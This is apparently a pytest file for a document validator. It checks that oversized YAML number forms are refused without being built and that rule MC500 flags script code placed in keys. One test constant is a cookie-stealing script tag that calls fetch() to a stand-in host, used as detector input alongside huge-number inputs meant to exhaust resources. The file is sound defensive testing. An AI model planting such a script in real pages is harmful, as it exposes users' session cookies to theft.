"""A tenth pass over the contract's readers and rules (stop 64): each test reproduces a
defect and fails before its fix.

- YAML 1.1's other number forms bypassed the number bounds: a decimal integer of more
  digits than Python reads, and ``1.0e+400``, are refused with their line and pointer, but
  PyYAML builds hexadecimal (``0x``), binary (``0b``), octal (``0``, ``0o`` under
  ``!!int``) and sexagesimal (``1:59:59``) integers, and sexagesimal floats, by arithmetic:
  ``0xfff...`` (5,000 digits) validated, then could not be hashed (``Exceeds the limit``)
  and was an internal error in ``replay run`` (in a document or a configuration); a
  sexagesimal float of 400 parts was an internal error (``OverflowError``).  Every YAML
  reader (documents, fixtures, configurations, notes, approval records) now bounds them by
  their text before they are built.
- MC500 ("no active code anywhere in payload or projection") read string values only: code
  in a key (``state_effects: {"<script>fetch(...)</script>": "remembers the page"}``)
  validated clean, where the same text as a value is an error.  Keys under payload and
  projection are read too, on every path (the loaders' level walk of a file or of a batch,
  the rule's own listing, the pointer walk), with the key's pointer.
"""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import pytest
import yaml
from harness import FIXTURES, SEED, run_cli

from risutools.contract import rules
from risutools.contract.loaders import load_bytes
from risutools.contract.records import parse_record
from risutools.contract.rules import ACTIVE_CODE_SECTIONS, active_code, known_prose
from risutools.errors import DocumentError
from risutools.values import fast_json_texts, fast_json_texts_many, load_yaml, parse_value

FIXTURE = FIXTURES / "replay" / "anchor-edit.yaml"
TOO_LONG = "an integer of more than 4300 digits is out of a JSON number's range"
NOT_FINITE = "is not a JSON number (NaN/Infinity)"

# ---- YAML's number forms, bounded before they are built -----------------------------------

#: (the value's text, the refusal's words): each past its bound, in every form PyYAML
#: resolves (implicitly or under an explicit tag), with a sign and underscores
PAST_THE_BOUND = [
    ("0x" + "f" * 5000, TOO_LONG),
    ("-0x" + "F" * 3580, TOO_LONG),  # (3,580 hexadecimal digits: 4,311 decimal ones)
    ("0x" + "f_" * 4000, TOO_LONG),
    ("!!int 0x" + "f" * 5000, TOO_LONG),
    ("0b" + "1" * 15000, TOO_LONG),
    ("+0b" + "1_" * 15000, TOO_LONG),
    ("0" + "7" * 5000, TOO_LONG),
    ("!!int 0o" + "7" * 5000, TOO_LONG),
    ("1" + ":59" * 3000, TOO_LONG),
    ("-1_0" + ":59" * 3000, TOO_LONG),
    ("!!int -1_0" + ":5_9" * 3000, TOO_LONG),
    ("!!int 1" + ":59" * 3000, TOO_LONG),
    ("!!int 1:" + "9" * 5000, TOO_LONG),
    ("9" * 5000, TOO_LONG),  # (the decimal form: as before)
    ("1" + ":59" * 400 + ".5", NOT_FINITE),
    ("-1" + ":59" * 400 + ".5", NOT_FINITE),
    ("1_0" + ":59" * 200 + ".5_5", NOT_FINITE),
    ("!!float 1_0" + ":5_9" * 200 + ".5_5", NOT_FINITE),
    ("!!float 1" + ":59" * 400, NOT_FINITE),
    ("!!float 1" + ":59" * 300 + ".5", NOT_FINITE),
    ("1.0e+400", NOT_FINITE),  # (the decimal form: as before)
]


@pytest.mark.parametrize(("value", "why"), PAST_THE_BOUND)
def test_every_number_form_past_its_bound_is_refused_with_its_place(value: str,
                                                                    why: str) -> None:
    _, problem = load_yaml(f"a: 1\nx-n: {value}\n")
    assert problem is not None and why in problem.message, problem
    assert (problem.line, problem.pointer) == (2, "/x-n")
    assert len(problem.message) < 300  # (one line: not the number's text)


@pytest.mark.parametrize(("value", "expected"), [
    ("0x" + "f" * 3000, int("f" * 3000, 16)),
    ("-0b" + "1" * 14000, -int("1" * 14000, 2)),
    ("0" + "7" * 4000, int("7" * 4000, 8)),
    ("!!int 0o" + "7" * 4000, int("7" * 4000, 8)),
    ("1" + ":59" * 2000, 60 ** 2000 + sum(59 * 60 ** i for i in range(2000))),
    ("0x" + "0" * 20000 + "1f", 31),  # (leading zeros: no digits of the value)
    ('!!int " 0' + ":0" * 5000 + ':1:30"', 90),  # (leading zero parts add nothing)
    ("0" + ":0" * 400 + ":1:30.5", 90.5),
    ("1" + ":59" * 150 + ".5", 1 * 60.0 ** 150 + sum(59 * 60.0 ** i for i in range(150)) + 0.5),
])
def test_every_number_form_within_its_bound_is_read(value: str, expected: Any) -> None:
    docs, problem = load_yaml(f"x-n: {value}\n")
    assert problem is None
    got = docs[0].value["x-n"]
    assert type(got) is type(expected)
    assert got == pytest.approx(expected, rel=1e-12) if isinstance(got, float) else got == expected


@pytest.mark.parametrize("value", [
    "0x1F", "-0b101", "0o17", "017", "1_000", "190:20:30", "-1:30.5", "0:0:1:30.5",
    "!!int 0o17", "!!float 1:30", "!!int +0x_1f",
])
def test_short_number_forms_read_as_pyyaml_reads_them(value: str) -> None:
    docs, problem = load_yaml(f"x-n: {value}\n")
    assert problem is None
    assert docs[0].value == yaml.safe_load(f"x-n: {value}\n")


@pytest.mark.parametrize("value", [
    "0x" + "f" * 2_000_000, "0b" + "1" * 2_000_000, "1" + ":59" * 1_000_000,
    '!!int " 0' + ":0" * 1_000_000 + ":1" * 1_000_000 + '"', "1" + ":59" * 1_000_000 + ".5",
])
def test_a_huge_number_form_is_refused_unread(value: str) -> None:
    started = time.perf_counter()
    _, problem = load_yaml(f"x-n: {value}\n")
    assert problem is not None and (TOO_LONG in problem.message
                                    or NOT_FINITE in problem.message)
    assert time.perf_counter() - started < 10  # (the parser's own scan: the sum is not taken)


@pytest.mark.parametrize("value", ["!!int 0x" + "z" * 5000, "!!int 1:" + "z" * 5000,
                                   "!!int 0" + "9" * 5000, "!!float 1:" + "x" * 400])
def test_a_long_text_its_tag_cannot_read_is_refused_as_such(value: str) -> None:
    _, problem = load_yaml(f"x-n: {value}\n")
    assert problem is not None and "cannot be read as its tag says" in problem.message
    assert (problem.line, problem.pointer) == (1, "/x-n")


def test_every_yaml_reader_refuses_them() -> None:
    hexa = "0x" + "f" * 5000
    # documents (the contract's loader)
    out = load_bytes(f"schema_version: 1\nx-n: {hexa}\n".encode(), "d.yaml", fmt="yaml")
    assert out.problems and TOO_LONG in out.problems[0].message
    assert (out.problems[0].line, out.problems[0].pointer) == (2, "/x-n")
    # fixtures, configurations, notes (one value each)
    with pytest.raises(DocumentError) as err:
        parse_value(f"a: 1\nmax_context: {hexa}\n", "c.yaml", "yaml")
    assert TOO_LONG in err.value.why and err.value.where == "line 2"
    with pytest.raises(DocumentError) as err:
        parse_value("a: 1\nb: 1" + ":59" * 400 + ".5\n", "n.yaml", "yaml")
    assert NOT_FINITE in err.value.why and err.value.where == "line 2"
    # approval records
    rec, why = parse_record(f"component_id: c\nat: {hexa}\n".encode(), "r.yaml")
    assert rec is None and TOO_LONG in why


def _document(tmp_path: Path, tail: str) -> Path:
    text = yaml.safe_dump(json.loads(SEED.read_text(encoding="utf-8")), allow_unicode=True,
                          sort_keys=False)
    p = tmp_path / "d.yaml"
    p.write_text(text + tail, encoding="utf-8")
    return p


def test_validate_hash_and_replay_refuse_a_hexadecimal_document(tmp_path: Path) -> None:
    doc = _document(tmp_path, "x-n: 0x" + "f" * 5000 + "\n")
    r = run_cli("validate", doc)
    assert r.returncode == 1 and "MC000 /x-n" in r.stdout and TOO_LONG in r.stdout
    r = run_cli("hash", doc)
    assert r.returncode != 0 and "bad-document" in r.stderr and TOO_LONG in r.stderr
    r = run_cli("replay", "run", doc, "-x", FIXTURE, "-o", tmp_path / "o" / "r.json")
    assert r.returncode == 2 and "bad-document" in r.stderr and "internal error" not in r.stderr


def test_validate_refuses_a_sexagesimal_float_document(tmp_path: Path) -> None:
    doc = _document(tmp_path, "x-n: 1" + ":59" * 400 + ".5\n")
    r = run_cli("validate", doc)
    assert r.returncode == 1 and "MC000 /x-n" in r.stdout and NOT_FINITE in r.stdout
    assert "internal error" not in r.stderr


def test_replay_refuses_a_configuration_and_a_fixture_past_the_bound(tmp_path: Path) -> None:
    cfg = tmp_path / "cfg.yaml"
    cfg.write_text("max_context: 0x" + "f" * 4000 + "\n", encoding="utf-8")
    r = run_cli("replay", "run", SEED, "-x", FIXTURE, "--config", cfg,
                "-o", tmp_path / "o" / "y.json")
    assert r.returncode == 2 and "cfg.yaml: line 1: config-" in r.stderr and TOO_LONG in r.stderr
    fx = tmp_path / "fx.yaml"
    fx.write_text(FIXTURE.read_text(encoding="utf-8") + "x-n: 0b" + "1" * 20000 + "\n",
                  encoding="utf-8")
    r = run_cli("replay", "run", SEED, "-x", fx, "-o", tmp_path / "o" / "f.json")
    assert r.returncode == 2 and "bad-fixture" in r.stderr and TOO_LONG in r.stderr


# ---- MC500 reads keys ---------------------------------------------------------------------

CODE_KEY = '<script>fetch("https://x/?"+document.cookie)</script>'
CODE_POINTER = "<script>fetch(\"https:~1~1x~1?\"+document.cookie)<~1script>"
#: (where the key goes, the pointer of its member)
KEY_PLACES = [
    (("payload", "state_effects"), f"/payload/state_effects/{CODE_POINTER}"),
    (("payload",), f"/payload/{CODE_POINTER}"),
    (("projection",), f"/projection/{CODE_POINTER}"),
    (("payload", "idea_layers", "core"), f"/payload/idea_layers/core/{CODE_POINTER}"),
]


def _seed() -> dict[str, Any]:
    doc: dict[str, Any] = json.loads(SEED.read_text(encoding="utf-8"))
    return doc


def _with_key(doc: dict[str, Any], where: tuple[str, ...], key: str = CODE_KEY,
              value: Any = "remembers the page") -> dict[str, Any]:
    at = doc
    for k in where:
        at = at.setdefault(k, {})
    at[key] = value
    return doc


def _mc500(r: Any) -> list[tuple[str, str]]:
    out = json.loads(r.stdout)
    return [(f["pointer"], f["message"]) for f in out["findings"] if f["rule"] == "MC500"]


@pytest.mark.parametrize(("where", "pointer"), KEY_PLACES)
def test_code_in_a_key_is_mc500_with_the_keys_pointer(where: tuple[str, ...],
                                                      pointer: str) -> None:
    doc = _with_key(_seed(), where)
    hits = list(active_code(doc, None))
    assert [p for p, _ in hits] == [pointer]
    assert "its key looks like active code (HTML script)" in hits[0][1]


@pytest.mark.parametrize(("where", "pointer"), KEY_PLACES)
def test_every_path_finds_a_code_key_alike(tmp_path: Path, where: tuple[str, ...],
                                           pointer: str) -> None:
    doc = _with_key(_seed(), where)
    want = list(active_code(doc, None))
    data = json.dumps(doc, ensure_ascii=False).encode()
    # the loader's level walk of one file
    one = fast_json_texts(data, ACTIVE_CODE_SECTIONS)
    assert one is not None and CODE_KEY in (one[2] or [])
    assert list(active_code(doc, one[2])) == want
    # ... of a batch: its strings are not all prose
    prose = [json.dumps(_seed()).encode() for _ in range(3)]
    parsed, found = fast_json_texts_many([*prose, data], ACTIVE_CODE_SECTIONS)
    assert CODE_KEY in found
    assert not known_prose([p[0] for p in parsed if p is not None], found)
    # the rule's own listings (plain values; and a value of another type: the slow one)
    assert CODE_KEY in rules._fresh_texts(doc)
    odd = json.loads(json.dumps(doc))
    odd["projection"]["x-odd"] = ("a", "b")  # (a tuple: not a plain value)
    assert CODE_KEY in rules._fresh_texts(odd)
    # validate: a JSON file, a YAML file, a folder of files read as a batch
    (tmp_path / "k.json").write_bytes(data)
    (tmp_path / "k.yaml").write_text(yaml.safe_dump(doc, allow_unicode=True), encoding="utf-8")
    folder = tmp_path / "many"
    folder.mkdir()
    for i in range(4):
        other = _seed()
        other["component_id"] += f"-{i}"
        (folder / f"d{i}.json").write_text(json.dumps(other), encoding="utf-8")
    (folder / "k.json").write_bytes(data)
    for target in (tmp_path / "k.json", tmp_path / "k.yaml", folder):
        r = run_cli("validate", "-f", "json", target)
        assert r.returncode == 1
        assert _mc500(r) == want, target


def test_the_same_text_as_a_value_is_still_found() -> None:
    doc = _with_key(_seed(), ("payload", "state_effects"), "remembers", CODE_KEY)
    hits = list(active_code(doc, None))
    assert [p for p, _ in hits] == ["/payload/state_effects/remembers"]
    assert hits[0][1].startswith("looks like active code (HTML script)")


def test_a_code_key_and_its_code_value_are_two_findings() -> None:
    doc = _with_key(_seed(), ("payload", "state_effects"), CODE_KEY, CODE_KEY)
    hits = list(active_code(doc, None))
    assert [m.startswith("its key") for _, m in hits] == [True, False]


def test_the_skipped_fields_keys_and_the_seed_keys_are_prose() -> None:
    # namespace/controller/... skip their string value, never a key; every key the
    # documents use (the schema's, the seed's state keys) is prose
    doc = _seed()
    doc["payload"]["namespace"] = CODE_KEY
    assert list(active_code(doc, None)) == []
    for f in sorted((FIXTURES / "documents").glob("*.json")):
        assert list(active_code(json.loads(f.read_text(encoding="utf-8")), None)) == [], f
